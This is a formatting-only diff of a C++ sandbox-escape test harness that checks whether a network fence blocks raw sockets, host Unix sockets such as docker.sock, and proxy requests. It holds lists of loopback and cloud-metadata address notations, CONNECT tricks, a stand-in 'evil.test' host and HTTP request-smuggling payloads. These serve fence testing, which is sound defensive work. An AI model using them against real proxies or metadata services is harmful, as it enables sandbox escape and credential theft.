@@ -7,11 +7,11 @@
 #include <sys/un.h>
 #include <unistd.h>
 
+#include <sys/time.h>
 #include <array>
 #include <cerrno>
 #include <cstdlib>
 #include <cstring>
-#include <sys/time.h>
 
 namespace escape {
 namespace {
@@ -58,7 +58,11 @@ Finding names_by_datagram(const Facts&) {
   to.sin_family = AF_INET;
   to.sin_port = htons(53);
   ::inet_pton(AF_INET, "8.8.8.8", &to.sin_addr);
-  constexpr std::string_view kQuestion("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07" "example\x03" "com\x00\x00\x01\x00\x01", 29);
+  constexpr std::string_view kQuestion(
+      "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07"
+      "example\x03"
+      "com\x00\x00\x01\x00\x01",
+      29);
   if (::sendto(fd, kQuestion.data(), kQuestion.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof(to)) < 0) {
     return held(reason());
   }
@@ -71,10 +75,11 @@ Finding odd_sockets(const Facts&) {
     int family, type, protocol;
     const char* name;
   };
-  for (const Kind& kind : {Kind{AF_PACKET, SOCK_RAW, 0x300, "packet"}, Kind{AF_INET, SOCK_RAW, IPPROTO_ICMP, "raw"},
-                           Kind{AF_NETLINK, SOCK_RAW, 0, "netlink"}, Kind{AF_VSOCK, SOCK_STREAM, 0, "vsock"},
-                           Kind{38 /* AF_ALG */, SOCK_SEQPACKET, 0, "crypto"}, Kind{AF_BLUETOOTH, SOCK_RAW, 1, "bluetooth"},
-                           Kind{AF_CAN, SOCK_RAW, 1, "can"}, Kind{AF_TIPC, SOCK_STREAM, 0, "tipc"}}) {
+  for (const Kind& kind :
+       {Kind{AF_PACKET, SOCK_RAW, 0x300, "packet"}, Kind{AF_INET, SOCK_RAW, IPPROTO_ICMP, "raw"},
+        Kind{AF_NETLINK, SOCK_RAW, 0, "netlink"}, Kind{AF_VSOCK, SOCK_STREAM, 0, "vsock"},
+        Kind{38 /* AF_ALG */, SOCK_SEQPACKET, 0, "crypto"}, Kind{AF_BLUETOOTH, SOCK_RAW, 1, "bluetooth"},
+        Kind{AF_CAN, SOCK_RAW, 1, "can"}, Kind{AF_TIPC, SOCK_STREAM, 0, "tipc"}}) {
     const int fd = ::socket(kind.family, kind.type, kind.protocol);
     if (fd < 0) continue;
     ::close(fd);
@@ -104,11 +109,12 @@ Finding abstract_socket(const Facts& facts) {
 }
 
 Finding socket_files(const Facts& facts) {
-  for (const std::string& path : {fact(facts, "host_socket"), std::string("/run/dbus/system_bus_socket"),
-                                  std::string("/var/run/docker.sock"), std::string("/run/docker.sock"),
-                                  std::string("/run/podman/podman.sock"), std::string("/run/containerd/containerd.sock"),
-                                  std::string("/run/systemd/private"), std::string("/tmp/.X11-unix/X0"),
-                                  std::string("/run/user/0/bus"), std::string("/run/postgresql/.s.PGSQL.5432")}) {
+  for (const std::string& path :
+       {fact(facts, "host_socket"), std::string("/run/dbus/system_bus_socket"), std::string("/var/run/docker.sock"),
+        std::string("/run/docker.sock"), std::string("/run/podman/podman.sock"),
+        std::string("/run/containerd/containerd.sock"), std::string("/run/systemd/private"),
+        std::string("/tmp/.X11-unix/X0"), std::string("/run/user/0/bus"),
+        std::string("/run/postgresql/.s.PGSQL.5432")}) {
     if (path.empty() || path.size() >= sizeof(sockaddr_un{}.sun_path)) continue;
     sockaddr_un address{};
     address.sun_family = AF_UNIX;
@@ -153,18 +159,48 @@ std::string ask_fence(const std::string& request) {
 }
 
 bool got_through(const std::string& answer) {
-  return answer.find("CANARY") != std::string::npos || answer.starts_with("HTTP/1.1 2") || answer.starts_with("HTTP/1.0 2");
+  return answer.find("CANARY") != std::string::npos || answer.starts_with("HTTP/1.1 2") ||
+         answer.starts_with("HTTP/1.0 2");
 }
 
 // The host listens on `host_port` and answers CANARY: every way to write its address.
 Finding notations(const Facts& facts) {
   const std::string port = fact(facts, "host_port");
-  for (const char* host :
-       {"127.0.0.1", "localhost", "LOCALHOST", "localhost.", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1",
-        "0177.0.0.1", "017700000001", "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
-        "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1%25lo]", "127.0.0.1.", "127。0。0。1",
-        "①②⑦.0.0.1", "%31%32%37.0.0.1", "169.254.169.254", "[fd00:ec2::254]", "100.64.0.1", "10.0.0.1", "192.168.0.1",
-        "172.16.0.1", "ip6-localhost", "localtest.me", "127.0.0.1.nip.io", "metadata.google.internal"}) {
+  for (const char* host : {"127.0.0.1",
+                           "localhost",
+                           "LOCALHOST",
+                           "localhost.",
+                           "127.1",
+                           "127.0.1",
+                           "2130706433",
+                           "0x7f000001",
+                           "0x7f.1",
+                           "0177.0.0.1",
+                           "017700000001",
+                           "0",
+                           "0.0.0.0",
+                           "[::1]",
+                           "[::]",
+                           "[::ffff:127.0.0.1]",
+                           "[::ffff:7f00:1]",
+                           "[::127.0.0.1]",
+                           "[64:ff9b::7f00:1]",
+                           "[2002:7f00:1::]",
+                           "[fe80::1%25lo]",
+                           "127.0.0.1.",
+                           "127。0。0。1",
+                           "①②⑦.0.0.1",
+                           "%31%32%37.0.0.1",
+                           "169.254.169.254",
+                           "[fd00:ec2::254]",
+                           "100.64.0.1",
+                           "10.0.0.1",
+                           "192.168.0.1",
+                           "172.16.0.1",
+                           "ip6-localhost",
+                           "localtest.me",
+                           "127.0.0.1.nip.io",
+                           "metadata.google.internal"}) {
     for (const char* scheme : {"http://", "https://"}) {
       const std::string url = scheme + std::string(host) + ":" + port + "/";
       if (got_through(ask_fence("GET " + url + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"))) {
@@ -192,9 +228,12 @@ Finding disguised_hosts(const Facts& facts) {
         "CONNECT 127.0.0.1:" + port + "\r\n\r\n",
         "CONNECT " + allowed + ":22 HTTP/1.1\r\nHost: " + allowed + "\r\n\r\n",
         "GET http://" + allowed + ".evil.test/ HTTP/1.1\r\nHost: " + allowed + "\r\n\r\n",
-        "GET http://" + allowed + " HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n"
-        "GET http://127.0.0.1:" + port + "/ HTTP/1.1\r\nHost: x\r\n\r\n",
-        "POST http://" + allowed + "/ HTTP/1.1\nHost: x\nContent-Length: 0\n\nGET http://127.0.0.1:" + port + "/ HTTP/1.1\n\n"}) {
+        "GET http://" + allowed +
+            " HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n"
+            "GET http://127.0.0.1:" +
+            port + "/ HTTP/1.1\r\nHost: x\r\n\r\n",
+        "POST http://" + allowed + "/ HTTP/1.1\nHost: x\nContent-Length: 0\n\nGET http://127.0.0.1:" + port +
+            "/ HTTP/1.1\n\n"}) {
     if (ask_fence(request).find("CANARY") != std::string::npos) return breach("got through: " + request.substr(0, 60));
   }
   return held();
@@ -205,8 +244,8 @@ Finding redirected(const Facts& facts) {
   const std::string allowed = fact(facts, "allowed_host");
   if (allowed.empty()) return held("nothing to try");
   for (const char* scheme : {"http://", "https://"}) {
-    const std::string answer =
-        ask_fence("GET " + std::string(scheme) + allowed + "/redirect HTTP/1.1\r\nHost: " + allowed + "\r\nConnection: close\r\n\r\n");
+    const std::string answer = ask_fence("GET " + std::string(scheme) + allowed +
+                                         "/redirect HTTP/1.1\r\nHost: " + allowed + "\r\nConnection: close\r\n\r\n");
     if (answer.find("CANARY") != std::string::npos) return breach("followed a redirect to the host");
   }
   return held();
